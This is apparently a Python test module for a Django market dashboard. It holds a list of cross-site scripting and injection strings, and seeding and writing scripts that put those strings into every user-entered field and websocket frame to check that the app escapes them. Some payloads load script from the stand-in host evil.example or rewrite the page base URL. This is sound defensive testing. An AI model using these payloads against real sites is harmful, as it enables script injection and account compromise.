"""Texts that would run or turn around what is beside them, and every place where one is kept or sent."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

PAYLOADS = (
    "<script>fire()</script>",
    "<img src=x onerror=fire()>",
    '"><svg onload=fire()>',
    "'><img src=x onerror=fire()>",
    "</script><script>fire()</script>",
    "</title><script>fire()</script>",
    "</textarea><script>fire()</script>",
    "</template><img src=x onerror=fire()>",
    "</noscript><script>fire()</script>",
    "--><script>fire()</script>",
    "<!--<script>fire()</script>",
    "javascript:fire()",
    "<a href=javascript:fire()>x</a>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='<script>top.fire()</script>'>",
    "<meta http-equiv=refresh content=0;url=javascript:fire()>",
    "<style>*{display:none}</style>",
    '" autofocus onfocus=fire() x="',
    "' onmouseover=fire() x='",
    "` onclick=fire() `",
    "<details open ontoggle=fire()>",
    "<math></p><img src=x onerror=fire()>",
    "{{constructor.constructor('fire()')()}}",
    "${fire()}",
    "{% include 'x' %}",
    "&lt;script&gt;fire()&lt;/script&gt;",
    "\\u003cscript\\u003efire()",
    "%3Cscript%3Efire()%3C/script%3E",
    '=HYPERLINK("javascript:fire()")',
    "]]><script>fire()</script>",
    "\u202e<img src=x onerror=fire()>",
    "\u2067<b>\u2066fire()",
    "\u200f\u202b)(erif",
    "ВТС/USDТ",
    "e\u0301\u0327" * 8,
    "<script\x0bsrc=//evil.example/x.js></script>",
    "<svg><animate onbegin=fire() attributeName=x>",
)
SHORT = tuple(each for each in PAYLOADS if len(each) <= 27)
NARROW = 32
"""Codes of assets, and what an exchange calls them."""

PLACES = {
    "username": 64,
    "first name": 64,
    "address": 64,
    "another's username": 64,
    "portfolio": 64,
    "account": 64,
    "shared portfolio": 64,
    "note": 64,
    "reference": 64,
    "share": 64,
    "link": 64,
    "watchlist": 64,
    "everybody's watchlist": 64,
    "token": 64,
    "screen": 64,
    "venue": 64,
    "base": NARROW,
    "quote": NARROW,
    "asset": NARROW,
    "asset in words": 64,
    "alias": NARROW,
    "event's subject": 64,
    "event's text": 64,
    "change in the log": 64,
    "file name": 64,
    "column of a file": 64,
    "cell of a file": 64,
    "trade": 64,
    "reason of a venue": 64,
    "title": 64,
    "link of a venue": 64,
    "last error": 64,
    "reason of a price": 64,
    "price": 64,
    "way of a price": 64,
    "saving": 64,
    "reason of a topic": 64,
    "search": 64,
}
"""What a person, an administrator or an exchange fills → how long it may be."""


def texts(turn: int) -> dict[str, str]:
    """One for each place, another at each turn; its end says which place it is of."""
    found = {}
    for at, (place, longest) in enumerate(PLACES.items()):
        corpus = SHORT if longest == NARROW else PAYLOADS
        found[place] = f"{corpus[(turn + at) % len(corpus)]}~{at}~"
    return found


PLANT = """
from django.contrib.auth.models import User
from django.utils import timezone
from marketdash.dashboards import actions as lists, screens
from marketdash.dashboards.models import KeptScreen
from marketdash.instruments.models import Alias, Asset, Instrument
from marketdash.portfolios import actions
from marketdash.portfolios.models import Fill

me, other = User.objects.get(username="kim"), User.objects.get(username="bob")
User.objects.filter(pk=me.pk).update(is_staff=True, is_superuser=True)
for code in ("EUR", "C0"):
    Asset.objects.get_or_create(code=code)
Alias.objects.create(asset=Asset.objects.get(code="C0"), code="CC0")
held, theirs = actions.create(me, "Mine", "EUR"), actions.create(other, "Theirs", "EUR")
at = actions.open_account(held, "Desk")
actions.share(theirs, me.username)
actions.share(held, "nobody-yet")
secret = actions.make_link(held, "for somebody", 7, True)[1]
KeptScreen.objects.create(owner=me, name="Mine", body=screens.text(next(iter(screens.PRESETS.values()))))
mine, everybodys = lists.create(me, "Mine"), lists.create(None, "House")
for each in (mine, everybodys):
    lists.add(each, ["KRAKEN:C0/USD"])
print("PLANTED", json.dumps({"portfolio": held.pk, "theirs": theirs.pk, "account": at.pk, "secret": secret,
    "user": me.pk, "list": mine.pk, "instrument": Instrument.objects.get(symbol="KRAKEN:C0/USD").pk,
    "asset": Asset.objects.get(code="C0").pk}))
"""
"""As anybody would; what is hostile is written over it, past all that refuses it."""

WRITE = """
from decimal import Decimal
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import User
from django.contrib.contenttypes.models import ContentType
from django.utils import timezone
from marketdash.accounts import tokens
from marketdash.accounts.models import Token
from marketdash.dashboards.models import KeptScreen, Watchlist
from marketdash.instruments.models import Alias, Asset, Instrument, Venue
from marketdash.ops.models import Incident
from marketdash.portfolios import actions
from marketdash.portfolios.models import Account, Fill, Portfolio, Share, ShareLink
from tests.marketdash.portfolios.writing import draft_of, entry, leg

named = {"username": t["username"], "first_name": t["first name"], "email": t["address"]}
User.objects.filter(pk=at["user"]).update(**named)
User.objects.filter(portfolios__pk=at["theirs"]).update(username=t["another's username"])
held = Portfolio.objects.get(pk=at["portfolio"])
Asset.objects.filter(pk=at["asset"]).update(code=t["asset"], title=t["asset in words"])
Alias.objects.filter(asset=at["asset"]).update(code=t["alias"])
said = entry("deposit", leg(t["asset"], "1", account=at["account"]))
actions.record(held, [draft_of(said, note=t["note"], reference=t["reference"], fingerprint=str(turn))])
Portfolio.objects.filter(pk=held.pk).update(name=t["portfolio"])
Portfolio.objects.filter(pk=at["theirs"]).update(name=t["shared portfolio"])
Account.objects.filter(pk=at["account"]).update(name=t["account"])
Share.objects.filter(portfolio=held).update(name=t["share"])
ShareLink.objects.filter(portfolio=held).update(name=t["link"])
Watchlist.objects.filter(pk=at["list"]).update(name=t["watchlist"])
Watchlist.objects.filter(owner=None).update(name=t["everybody's watchlist"])
KeptScreen.objects.update(name=t["screen"])
Token.objects.all().delete()
tokens.make(User.objects.get(pk=at["user"]), "bot", ("read:portfolios",))
Token.objects.update(name=t["token"])
Venue.objects.update(title=t["venue"])
Instrument.objects.filter(pk=at["instrument"]).update(base=t["base"], quote=t["quote"])
Incident.objects.all().delete()
Incident.objects.create(key=str(turn), worker="w", kind="link", venue="KRAKEN", subject=t["event's subject"],
    text=t["event's text"], began_at=timezone.now())
LogEntry.objects.all().delete()
of = {"content_type": ContentType.objects.get_for_model(Instrument), "object_id": str(at["instrument"])}
said = {"object_repr": t["change in the log"], "change_message": t["change in the log"]}
LogEntry.objects.create(user_id=at["user"], action_flag=2, **of, **said)
fill = {"instrument": "KRAKEN:C0/USD", "side": "buy", "price": "1", "qty": "1", "base": "C0", "quote": "USD"}
Fill.objects.all().delete()
times = {"exchange_us": 1, "received_us": 1, "changed_us": 1}
words = {"trade_id": t["trade"], "waits": t["trade"], "alike": "a"}
Fill.objects.create(account_id=at["account"], **words, **times, **fill)
data = f'When,Amount,Asset,{t["column of a file"].replace(",", ";")}\\n2026-01-01,5,EUR,x\\n'
data += f'{t["cell of a file"].replace(",", ";")},1,{t["cell of a file"].replace(",", ";")},x\\n'
brought = actions.bring(held, at["account"], t["file name"], data.encode(), held.owner)
print("WRITTEN", json.dumps({"entry": held.entries.latest("pk").pk, "import": brought.pk}))
"""


def frames(t: Mapping[str, str], portfolio: int) -> dict[str, dict[str, Any]]:
    """What a server would send that believed everything that an exchange says, by channel."""
    step = {"epoch": "e", "prev": 0, "seq": 1, "age_us": 0}
    link = {
        "name": t["link of a venue"],
        "state": "down",
        "reason": t["last error"],
        "last_error": t["last error"],
        "since": 1,
        "topics": 1,
        "messages_per_s": 0,
        "gaps": 0,
        "resyncs": 0,
        "reconnects": 0,
    }
    topic = {
        "topic": f"ticker:{t['reason of a topic']}",
        "state": "down",
        "reason": t["reason of a topic"],
        "last_error": t["last error"],
        "since": 1,
        "age_us": 0,
        "messages_per_s": 0,
        "gaps": 0,
        "resyncs": 0,
    }
    venue = {
        "symbol": "KRAKEN",
        "state": "down",
        "title": t["title"],
        "reason": t["reason of a venue"],
        "links": [link],
    }
    price = {
        "symbol": "KRAKEN:C0/USD",
        "state": "halted",
        "reason": t["reason of a price"],
        "last": t["price"],
        "bid": t["price"],
    }
    figure = {"value": "1", "unknown": 0, "known": 1}
    item = {
        "asset": t["asset"],
        "accounts": [],
        "quantity": "1",
        "average": None,
        "cost": "0",
        "unknown": "0",
        "price": "1",
        "value": "1",
        "gain": None,
        "day": None,
        "live": False,
        "path": t["way of a price"],
        "by": ["KRAKEN:C0/USD"],
        "ts_received": 1,
    }
    sums = dict.fromkeys(("unrealised", "realised", "income", "fees", "funding", "day"), figure)
    worth = {
        "id": portfolio,
        "ts": 2,
        "base": "EUR",
        "method": "fifo",
        "total": "1",
        **sums,
        "missing": [t["way of a price"]],
        "stale": [t["asset"]],
        "uncosted": [],
        "holdings": [item],
        "positions": [],
        "state": "stale",
        "reason": "x",
    }
    rows = {
        "status": venue,
        "ticker": price,
        "health": {"symbol": "KRAKEN", "state": "down", "topics": [topic]},
        "portfolio": worth,
    }
    return {
        name: {"channel": name, "type": "snapshot", "data": [{**step, **row}]} for name, row in rows.items()
    }


def heartbeat(t: Mapping[str, str]) -> str:
    return json.dumps(
        {
            "channel": "status",
            "type": "heartbeat",
            "ts": 1,
            "mode": "live",
            "listing": "",
            "saving": t["saving"],
            "data": [{"symbol": "KRAKEN", "age_us": 0}],
        }
    )
